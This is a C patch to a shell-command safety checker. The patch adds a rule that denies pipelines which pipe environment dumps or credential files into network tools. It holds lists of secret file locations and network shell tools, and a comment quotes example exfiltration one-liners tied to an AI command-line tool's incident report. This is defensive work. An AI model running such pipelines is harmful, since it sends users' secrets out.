@@ -995,6 +995,86 @@ static void check_funcdef(struct cmd_check *ck, const struct bh_sh_node *n)
 			      "in this shell may run under its name");
 }
 
+/* ---- data flow in a pipeline ------------------------------------------ */
+
+static const char *base_name(const char *p)
+{
+	const char *s = p ? strrchr(p, '/') : NULL;
+	return s ? s + 1 : p;
+}
+
+/* Prints the environment, or reads a credential place. */
+static bool secret_source(const struct bh_cmd_finding *f)
+{
+	static const char *const printers[] = {"env", "printenv", "set",
+					       "export", "declare", "typeset",
+					       "compgen"};
+	static const char *const places[] = {
+		".ssh/",	"id_rsa",      "id_ed25519",  "id_ecdsa",
+		".aws/",	".netrc",      ".env",	      "credentials",
+		".npmrc",	".pypirc",     ".docker/config", ".kube/config",
+		".gnupg/",	"/environ",    ".git-credentials", ".config/gh",
+		".vault-token", "secret",      "token",	      ".claude",
+		".codex/auth",	".gemini/oauth",
+	};
+	const char *prog = base_name(f->program);
+	if (!prog)
+		return false;
+	for (size_t i = 0; i < BH_ARRAY_SIZE(printers); i++)
+		if (!strcmp(prog, printers[i]))
+			return true;
+	for (size_t i = 0; i < BH_ARRAY_SIZE(places); i++)
+		if (f->command && strstr(f->command, places[i]))
+			return true;
+	return false;
+}
+
+/* Sends its input over the network. */
+static bool network_sink(const struct bh_cmd_finding *f)
+{
+	static const char *const sinks[] = {
+		"curl", "wget",	  "nc",	     "ncat",  "netcat", "socat",
+		"telnet", "ssh",  "scp",     "sftp",  "rsync",  "openssl",
+		"http",	"https",  "xh",	     "ftp",   "tftp",	"gh",
+	};
+	const char *prog = base_name(f->program);
+	for (size_t i = 0; prog && i < BH_ARRAY_SIZE(sinks); i++)
+		if (!strcmp(prog, sinks[i]))
+			return true;
+	return false;
+}
+
+/*
+ * `env | curl -d @- URL`, `cat ~/.aws/credentials | nc host 80`: each
+ * command alone may be merely asked about, but together they send secrets
+ * out (the Gemini CLI report's tail).  Findings [from, to) are those of
+ * one pipeline's commands, in order.
+ */
+static void check_pipeline_flow(struct cmd_check *ck, size_t from, size_t to)
+{
+	const struct bh_cmd_verdict *v = ck->out;
+	for (size_t i = from; i < to && i < v->n; i++) {
+		if (!secret_source(&v->v[i]))
+			continue;
+		for (size_t j = i + 1; j < to && j < v->n; j++) {
+			if (!network_sink(&v->v[j]))
+				continue;
+			cleanup_free char *why = bh_xasprintf(
+				"`%s` (the environment or a credential file) "
+				"is piped into `%s`, which sends it over the "
+				"network",
+				v->v[i].command, v->v[j].command);
+			cleanup_free char *cmd = bh_xstrdup(v->v[j].command);
+			cleanup_free char *prog =
+				v->v[j].program ? bh_xstrdup(v->v[j].program)
+						: NULL;
+			add_finding(ck, BH_CMD_DENY, cmd, prog, NULL,
+				    "builtin: exfiltration pipeline", why);
+			return;
+		}
+	}
+}
+
 static void walk(struct cmd_check *ck, const struct bh_sh_node *n)
 {
 	if (!n || ck->full)
@@ -1029,8 +1109,11 @@ static void walk(struct cmd_check *ck, const struct bh_sh_node *n)
 	default:
 		break;
 	}
+	size_t first = ck->out->n;
 	for (size_t i = 0; i < n->n_kids; i++)
 		walk(ck, n->kids[i]);
+	if (n->kind == BH_SHN_PIPELINE)
+		check_pipeline_flow(ck, first, ck->out->n);
 }
 
 /* Parses s and decides every command in it; `where` names it in a parse
